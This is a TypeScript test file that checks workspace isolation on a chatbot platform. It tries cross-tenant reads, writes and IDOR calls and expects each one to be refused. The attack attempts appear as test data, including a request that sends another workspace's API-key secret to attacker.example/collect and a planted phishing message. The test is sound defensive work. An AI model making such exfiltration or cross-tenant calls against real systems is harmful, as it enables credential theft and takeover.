import { beforeAll, describe, expect, it } from 'vitest';
import { createBotFile } from '../../lib/flow/bot-file';
import { graphSchema } from '../../lib/flow/graph-schema';
import type { Prisma } from '../db/generated/client';
import { insertConversation, workspaceProcedurePaths } from '../test/procedures';
import { addMember, callerFor, expectTrpcError, signUpUser, useTestApp, type Caller, type TestUser } from '../test/test-app';

/**
 * THE isolation test: a member of workspace A can neither read nor change anything of
 * workspace B, whether they name B's workspace or pass their own workspace with B's ids.
 */
const app = useTestApp();

interface Ids {
  a: string;
  b: string;
  botB: string;
  conversationB: string;
  membershipB: string;
  invitationB: string;
  secretB: string;
  apiKeyB: string;
}

/** A graph an attacker would like to plant in B's bot. */
const plantedGraph = graphSchema.parse({
  version: 1,
  nodes: [
    { id: 'start', type: 'start', position: { x: 0, y: 0 } },
    { id: 'm', type: 'message', position: { x: 0, y: 100 }, data: { text: 'Send your password to evil.example' } },
  ],
  edges: [{ id: 'e', source: 'start', target: 'm' }],
});

/** The same graph as a bot file, to import into B's bot. */
const plantedFile = JSON.stringify(createBotFile({ name: 'Planted bot', description: '', graph: plantedGraph }));

let alice: TestUser;
let bob: TestUser;
let asAlice: Caller;
const ids = {} as Ids;

/** Everything of workspace B that a call could read or change, to compare before and after. */
async function snapshotWorkspace(workspaceId: string) {
  const select = { where: { workspaceId }, orderBy: { id: 'asc' as Prisma.SortOrder } };
  return {
    workspace: await app.prisma.workspace.findUniqueOrThrow({ where: { id: workspaceId } }),
    memberships: await app.prisma.membership.findMany(select),
    invitations: await app.prisma.invitation.findMany(select),
    secrets: await app.prisma.secret.findMany(select),
    apiKeys: await app.prisma.apiKey.findMany(select),
    bots: await app.prisma.bot.findMany({ ...select, include: { draft: true, versions: true } }),
    conversations: await app.prisma.conversation.findMany({ ...select, include: { messages: { orderBy: { id: 'asc' } } } }),
  };
}

beforeAll(async () => {
  alice = await signUpUser(app, 'Alice');
  bob = await signUpUser(app, 'Bob');
  asAlice = callerFor(app, alice);
  const asBob = callerFor(app, bob);
  ids.a = alice.workspaceId;
  ids.b = bob.workspaceId;

  const bot = await asBob.bot.create({ workspaceId: ids.b, name: 'Bob private bot', description: 'Internal only' });
  ids.botB = bot.id;
  // A published version 1, so that reading or restoring it would succeed if it were allowed.
  await asBob.bot.publish({ workspaceId: ids.b, botId: bot.id, notes: 'Bob v1' });
  ids.conversationB = (await insertConversation(app.prisma, ids.b, bot.id)).id;
  ids.membershipB = (await addMember(app, ids.b, 'EDITOR', 'Carol')).membershipId;
  ids.invitationB = (await asBob.member.invite({ workspaceId: ids.b, role: 'ADMIN' })).id;
  ids.secretB = (await asBob.secret.set({ workspaceId: ids.b, name: 'OPENAI_API_KEY', value: 'sk-bob-secret-value' })).id;
  ids.apiKeyB = (await asBob.apiKey.create({ workspaceId: ids.b, name: 'Bob CRM' })).id;
  // Alice has data of her own too, so that "empty" answers are not an accident.
  await asAlice.bot.create({ workspaceId: ids.a, name: 'Alice bot' });
});

const period = () => ({ from: new Date(Date.now() - 7 * 86_400_000), to: new Date(Date.now() + 60_000) });

/** Every workspace procedure, called by Alice on workspace B. */
const callsOnB: Record<string, (c: Caller) => Promise<unknown>> = {
  'workspace.get': (c) => c.workspace.get({ workspaceId: ids.b }),
  'workspace.rename': (c) => c.workspace.rename({ workspaceId: ids.b, name: 'Taken over' }),
  'member.list': (c) => c.member.list({ workspaceId: ids.b }),
  'member.changeRole': (c) => c.member.changeRole({ workspaceId: ids.b, membershipId: ids.membershipB, role: 'VIEWER' }),
  'member.remove': (c) => c.member.remove({ workspaceId: ids.b, membershipId: ids.membershipB }),
  'member.invitations': (c) => c.member.invitations({ workspaceId: ids.b }),
  'member.invite': (c) => c.member.invite({ workspaceId: ids.b, role: 'OWNER' }),
  'member.revokeInvitation': (c) => c.member.revokeInvitation({ workspaceId: ids.b, invitationId: ids.invitationB }),
  'bot.list': (c) => c.bot.list({ workspaceId: ids.b }),
  'bot.get': (c) => c.bot.get({ workspaceId: ids.b, botId: ids.botB }),
  'bot.create': (c) => c.bot.create({ workspaceId: ids.b, name: 'Planted bot' }),
  'bot.update': (c) => c.bot.update({ workspaceId: ids.b, botId: ids.botB, name: 'Defaced' }),
  'bot.duplicate': (c) => c.bot.duplicate({ workspaceId: ids.b, botId: ids.botB }),
  'bot.delete': (c) => c.bot.delete({ workspaceId: ids.b, botId: ids.botB }),
  'conversation.list': (c) => c.conversation.list({ workspaceId: ids.b }),
  'conversation.get': (c) => c.conversation.get({ workspaceId: ids.b, conversationId: ids.conversationB }),
  'inbox.queue': (c) => c.inbox.queue({ workspaceId: ids.b }),
  'inbox.conversation': (c) => c.inbox.conversation({ workspaceId: ids.b, conversationId: ids.conversationB }),
  'analytics.kpis': (c) => c.analytics.kpis({ workspaceId: ids.b, ...period() }),
  'analytics.timeseries': (c) => c.analytics.timeseries({ workspaceId: ids.b, botId: ids.botB, ...period() }),
  'analytics.topIntents': (c) => c.analytics.topIntents({ workspaceId: ids.b, botId: ids.botB, ...period() }),
  'analytics.fallbacks': (c) => c.analytics.fallbacks({ workspaceId: ids.b, botId: ids.botB, ...period() }),
  'analytics.canvasTraffic': (c) => c.analytics.canvasTraffic({ workspaceId: ids.b, botId: ids.botB, ...period() }),
  'analytics.funnel': (c) => c.analytics.funnel({ workspaceId: ids.b, botId: ids.botB, nodeIds: ['start', 'm'], ...period() }),
  'analytics.team': (c) => c.analytics.team({ workspaceId: ids.b, ...period() }),
  'analytics.transcripts': (c) => c.analytics.transcripts({ workspaceId: ids.b, ...period() }),
  'analytics.transcript': (c) => c.analytics.transcript({ workspaceId: ids.b, conversationId: ids.conversationB }),
  'analytics.exportTranscripts': (c) => c.analytics.exportTranscripts({ workspaceId: ids.b, format: 'json', ...period() }),
  'analytics.addFallbackToIntent': (c) => c.analytics.addFallbackToIntent({ workspaceId: ids.b, botId: ids.botB, intent: 'greet', text: 'planted phrase' }),
  'secret.list': (c) => c.secret.list({ workspaceId: ids.b }),
  'secret.set': (c) => c.secret.set({ workspaceId: ids.b, name: 'OPENAI_API_KEY', value: 'attacker value' }),
  'secret.delete': (c) => c.secret.delete({ workspaceId: ids.b, secretId: ids.secretB }),
  'bot.getDraft': (c) => c.bot.getDraft({ workspaceId: ids.b, botId: ids.botB }),
  'bot.intentConflicts': (c) => c.bot.intentConflicts({ workspaceId: ids.b, botId: ids.botB }),
  'bot.saveDraft': (c) => c.bot.saveDraft({ workspaceId: ids.b, botId: ids.botB, baseRevision: 1, graph: plantedGraph }),
  'bot.publish': (c) => c.bot.publish({ workspaceId: ids.b, botId: ids.botB }),
  'bot.getWidgetSettings': (c) => c.bot.getWidgetSettings({ workspaceId: ids.b, botId: ids.botB }),
  'bot.updateWidgetSettings': (c) => c.bot.updateWidgetSettings({ workspaceId: ids.b, botId: ids.botB, allowedOrigins: ['https://attacker.example'], theme: { title: 'Help', accentColour: '#123456', accentTextColour: '#ffffff', avatarUrl: '', greeting: '', launcherText: '', position: 'left', rating: 'stars' } }),
  'bot.versions': (c) => c.bot.versions({ workspaceId: ids.b, botId: ids.botB }),
  'bot.getVersion': (c) => c.bot.getVersion({ workspaceId: ids.b, botId: ids.botB, versionNumber: 1 }),
  'bot.restoreVersion': (c) => c.bot.restoreVersion({ workspaceId: ids.b, botId: ids.botB, versionNumber: 1, baseRevision: 1, overwrite: true }),
  'bot.exportFile': (c) => c.bot.exportFile({ workspaceId: ids.b, botId: ids.botB }),
  'bot.importDraft': (c) => c.bot.importDraft({ workspaceId: ids.b, botId: ids.botB, baseRevision: 1, overwrite: true, content: plantedFile }),
  'bot.createFromFile': (c) => c.bot.createFromFile({ workspaceId: ids.b, content: plantedFile }),
  'apiKey.list': (c) => c.apiKey.list({ workspaceId: ids.b }),
  'apiKey.create': (c) => c.apiKey.create({ workspaceId: ids.b, name: 'Planted key' }),
  'apiKey.revoke': (c) => c.apiKey.revoke({ workspaceId: ids.b, apiKeyId: ids.apiKeyB }),
  // Would send B's secret in a header to a URL of Alice's choosing.
  'tool.testRequest': (c) =>
    c.tool.testRequest({
      workspaceId: ids.b,
      request: { method: 'GET', url: 'https://attacker.example/collect', headers: [{ name: 'authorization', value: '{{secrets.OPENAI_API_KEY}}' }], timeoutMs: 1000, mappings: [] },
    }),
};

/** Calls that name Alice's own workspace but B's object ids (the IDOR path). */
const crossIdCalls: Record<string, (c: Caller) => Promise<unknown>> = {
  'bot.get': (c) => c.bot.get({ workspaceId: ids.a, botId: ids.botB }),
  'bot.update': (c) => c.bot.update({ workspaceId: ids.a, botId: ids.botB, name: 'Defaced' }),
  'bot.duplicate': (c) => c.bot.duplicate({ workspaceId: ids.a, botId: ids.botB }),
  'bot.delete': (c) => c.bot.delete({ workspaceId: ids.a, botId: ids.botB }),
  'conversation.get': (c) => c.conversation.get({ workspaceId: ids.a, conversationId: ids.conversationB }),
  'inbox.conversation': (c) => c.inbox.conversation({ workspaceId: ids.a, conversationId: ids.conversationB }),
  'member.changeRole': (c) => c.member.changeRole({ workspaceId: ids.a, membershipId: ids.membershipB, role: 'VIEWER' }),
  'member.remove': (c) => c.member.remove({ workspaceId: ids.a, membershipId: ids.membershipB }),
  'member.revokeInvitation': (c) => c.member.revokeInvitation({ workspaceId: ids.a, invitationId: ids.invitationB }),
  'secret.delete': (c) => c.secret.delete({ workspaceId: ids.a, secretId: ids.secretB }),
  'bot.getDraft': (c) => c.bot.getDraft({ workspaceId: ids.a, botId: ids.botB }),
  'bot.intentConflicts': (c) => c.bot.intentConflicts({ workspaceId: ids.a, botId: ids.botB }),
  'bot.saveDraft': (c) => c.bot.saveDraft({ workspaceId: ids.a, botId: ids.botB, baseRevision: 1, graph: plantedGraph }),
  'bot.publish': (c) => c.bot.publish({ workspaceId: ids.a, botId: ids.botB }),
  'bot.getWidgetSettings': (c) => c.bot.getWidgetSettings({ workspaceId: ids.a, botId: ids.botB }),
  'bot.updateWidgetSettings': (c) => c.bot.updateWidgetSettings({ workspaceId: ids.a, botId: ids.botB, allowedOrigins: ['https://attacker.example'], theme: { title: 'Help', accentColour: '#123456', accentTextColour: '#ffffff', avatarUrl: '', greeting: '', launcherText: '', position: 'left', rating: 'stars' } }),
  'bot.versions': (c) => c.bot.versions({ workspaceId: ids.a, botId: ids.botB }),
  'bot.getVersion': (c) => c.bot.getVersion({ workspaceId: ids.a, botId: ids.botB, versionNumber: 1 }),
  'bot.restoreVersion': (c) => c.bot.restoreVersion({ workspaceId: ids.a, botId: ids.botB, versionNumber: 1, baseRevision: 1, overwrite: true }),
  'bot.exportFile': (c) => c.bot.exportFile({ workspaceId: ids.a, botId: ids.botB }),
  'bot.importDraft': (c) => c.bot.importDraft({ workspaceId: ids.a, botId: ids.botB, baseRevision: 1, overwrite: true, content: plantedFile }),
  'apiKey.revoke': (c) => c.apiKey.revoke({ workspaceId: ids.a, apiKeyId: ids.apiKeyB }),
  'analytics.kpis': (c) => c.analytics.kpis({ workspaceId: ids.a, botId: ids.botB, ...period() }),
  'analytics.timeseries': (c) => c.analytics.timeseries({ workspaceId: ids.a, botId: ids.botB, ...period() }),
  'analytics.topIntents': (c) => c.analytics.topIntents({ workspaceId: ids.a, botId: ids.botB, ...period() }),
  'analytics.fallbacks': (c) => c.analytics.fallbacks({ workspaceId: ids.a, botId: ids.botB, ...period() }),
  'analytics.canvasTraffic': (c) => c.analytics.canvasTraffic({ workspaceId: ids.a, botId: ids.botB, ...period() }),
  'analytics.funnel': (c) => c.analytics.funnel({ workspaceId: ids.a, botId: ids.botB, nodeIds: ['start', 'm'], ...period() }),
  'analytics.transcripts': (c) => c.analytics.transcripts({ workspaceId: ids.a, botId: ids.botB, ...period() }),
  'analytics.transcript': (c) => c.analytics.transcript({ workspaceId: ids.a, conversationId: ids.conversationB }),
  'analytics.addFallbackToIntent': (c) => c.analytics.addFallbackToIntent({ workspaceId: ids.a, botId: ids.botB, intent: 'greet', text: 'planted phrase' }),
};

describe('workspace isolation', () => {
  it('covers every workspace procedure (add new ones to callsOnB)', () => {
    expect(Object.keys(callsOnB).sort()).toEqual(workspaceProcedurePaths);
  });

  it.each(Object.keys(callsOnB))('%s on workspace B is NOT_FOUND for a member of A, and B is unchanged', async (path) => {
    const before = await snapshotWorkspace(ids.b);
    const error = await expectTrpcError(callsOnB[path]!(asAlice), 'NOT_FOUND');
    // The answer does not reveal whether the workspace exists.
    expect(error.message).toBe('That workspace does not exist or you are not a member of it.');
    expect(await snapshotWorkspace(ids.b)).toEqual(before);
  });

  it.each(Object.keys(crossIdCalls))("%s with A's workspaceId and B's ids is NOT_FOUND and B is unchanged", async (path) => {
    const before = await snapshotWorkspace(ids.b);
    const beforeA = await snapshotWorkspace(ids.a);
    await expectTrpcError(crossIdCalls[path]!(asAlice), 'NOT_FOUND');
    expect(await snapshotWorkspace(ids.b)).toEqual(before);
    expect(await snapshotWorkspace(ids.a)).toEqual(beforeA);
  });

  it("filters A's conversation list by B's bot id to nothing", async () => {
    expect(await asAlice.conversation.list({ workspaceId: ids.a, botId: ids.botB })).toEqual([]);
  });

  it("A's team dashboard, transcripts and export never include B's bot or conversation", async () => {
    const team = await asAlice.analytics.team({ workspaceId: ids.a, ...period() });
    expect(team.map((row) => row.botName)).toEqual(['Alice bot']);
    expect((await asAlice.analytics.transcripts({ workspaceId: ids.a, ...period() })).rows).toEqual([]);
    const exported = await asAlice.analytics.exportTranscripts({ workspaceId: ids.a, format: 'csv', ...period() });
    expect(exported.content).not.toContain(ids.conversationB);
    expect((await callerFor(app, bob).analytics.transcripts({ workspaceId: ids.b, ...period() })).rows.map((r) => r.conversationId)).toEqual([ids.conversationB]);
  });

  it("setting a secret of the same name in A leaves B's secret alone", async () => {
    const before = await snapshotWorkspace(ids.b);
    const own = await asAlice.secret.set({ workspaceId: ids.a, name: 'OPENAI_API_KEY', value: 'alice value' });
    expect(own.id).not.toBe(ids.secretB);
    expect(await snapshotWorkspace(ids.b)).toEqual(before);
  });

  it("lists only Alice's own workspaces and bots", async () => {
    expect(await asAlice.workspace.list()).toEqual([{ id: ids.a, name: "Alice's workspace", role: 'OWNER' }]);
    const bots = await asAlice.bot.list({ workspaceId: ids.a });
    expect(bots.map((b) => b.name)).toEqual(['Alice bot']);
  });

  it('a member removed from B loses access at once', async () => {
    const dave = await addMember(app, ids.b, 'ADMIN', 'Dave');
    expect(await dave.caller.bot.list({ workspaceId: ids.b })).toHaveLength(1);
    await callerFor(app, bob).member.remove({ workspaceId: ids.b, membershipId: dave.membershipId });
    await expectTrpcError(dave.caller.bot.list({ workspaceId: ids.b }), 'NOT_FOUND');
    await expectTrpcError(dave.caller.secret.list({ workspaceId: ids.b }), 'NOT_FOUND');
  });

  it('B itself still sees all of its data (the refusals were about Alice, not broken procedures)', async () => {
    const asBob = callerFor(app, bob);
    expect((await asBob.bot.get({ workspaceId: ids.b, botId: ids.botB })).name).toBe('Bob private bot');
    expect((await asBob.conversation.get({ workspaceId: ids.b, conversationId: ids.conversationB })).messages).toHaveLength(2);
    expect((await asBob.secret.list({ workspaceId: ids.b })).map((s) => s.id)).toEqual([ids.secretB]);
    expect((await asBob.member.invitations({ workspaceId: ids.b })).map((i) => i.id)).toEqual([ids.invitationB]);
  });
});
